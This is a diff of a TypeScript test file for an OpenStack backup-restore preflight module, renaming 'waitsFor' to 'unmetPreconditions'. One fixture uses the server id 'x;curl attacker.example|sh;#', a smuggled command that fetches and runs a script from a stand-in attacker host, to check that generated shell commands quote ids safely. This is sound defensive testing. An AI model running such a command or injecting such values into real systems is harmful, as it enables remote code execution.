@@ -4,7 +4,7 @@ import {
   describeAttachment,
   identityProblems,
   remedyOf,
-  waitsFor,
+  unmetPreconditions,
   warnings,
 } from '../../src/domain/preflight.ts';
 import type { Expectation } from '../../src/domain/spec.ts';
@@ -36,7 +36,7 @@ describe('commands to paste', () => {
   const odd = { server_id: 'x;curl attacker.example|sh;#', server_name: 'db1' };
 
   it('hold ids as words, so that nothing of them runs', () => {
-    const [wait] = waitsFor({ ...VOLUME, status: 'in-use', attachments: [odd] }, BACKUP);
+    const [wait] = unmetPreconditions({ ...VOLUME, status: 'in-use', attachments: [odd] }, BACKUP);
     expect(wait?.commands).to.deep.equal([
       "openstack server stop 'x;curl attacker.example|sh;#'",
       "openstack server remove volume 'x;curl attacker.example|sh;#' v",
@@ -160,9 +160,9 @@ describe('identityProblems', () => {
   });
 });
 
-describe('waitsFor', () => {
+describe('unmetPreconditions', () => {
   const whats = (volume: Partial<Volume>, backup: Partial<Backup> = {}) =>
-    waitsFor({ ...VOLUME, ...volume }, { ...BACKUP, ...backup }).map(({ what }) => what);
+    unmetPreconditions({ ...VOLUME, ...volume }, { ...BACKUP, ...backup }).map(({ what }) => what);
   const cases: { [name: string]: [Partial<Volume>, Partial<Backup>, string[]] } = {
     'nothing when both are available': [{}, {}, []],
     'each server to be detached': [
@@ -215,7 +215,7 @@ describe('waitsFor', () => {
   describe('another backup of the disk, being made', () => {
     const other = { ...BACKUP, id: 'c', name: 'hourly', status: 'creating' };
     const made = (volume: Partial<Volume>, pendingBackups: Backup[]) =>
-      waitsFor({ ...VOLUME, ...volume }, BACKUP, pendingBackups).map(({ what }) => what);
+      unmetPreconditions({ ...VOLUME, ...volume }, BACKUP, pendingBackups).map(({ what }) => what);
     it('is waited for', () =>
       expect(made({}, [other])).to.deep.equal(['backup hourly of this disk, being made, to end']));
     it('is told once where the disk tells it, too', () =>
@@ -226,14 +226,14 @@ describe('waitsFor', () => {
       expect(made({}, [{ ...other, status: 'available' }])).to.deep.equal([]));
     it('is not waited for twice when it is the one to restore', () =>
       expect(
-        waitsFor(VOLUME, { ...BACKUP, status: 'creating' }, [{ ...BACKUP, status: 'creating' }]).map(
-          ({ what }) => what,
-        ),
+        unmetPreconditions(VOLUME, { ...BACKUP, status: 'creating' }, [
+          { ...BACKUP, status: 'creating' },
+        ]).map(({ what }) => what),
       ).to.deep.equal(['the backup to be made']));
   });
 
   it('gives the commands that call off a transfer', () => {
-    const [wait] = waitsFor({ ...VOLUME, status: 'awaiting-transfer' }, BACKUP);
+    const [wait] = unmetPreconditions({ ...VOLUME, status: 'awaiting-transfer' }, BACKUP);
     expect(wait?.commands).to.deep.equal([
       'openstack volume transfer request list',
       'openstack volume transfer request delete REQUEST',
@@ -241,7 +241,7 @@ describe('waitsFor', () => {
   });
 
   it('gives the commands that detach, in their order', () => {
-    const [wait] = waitsFor({ ...VOLUME, status: 'in-use', attachments: [NAMED] }, BACKUP);
+    const [wait] = unmetPreconditions({ ...VOLUME, status: 'in-use', attachments: [NAMED] }, BACKUP);
     expect(wait?.commands).to.deep.equal([
       'openstack server stop id-1',
       'openstack server remove volume id-1 v',
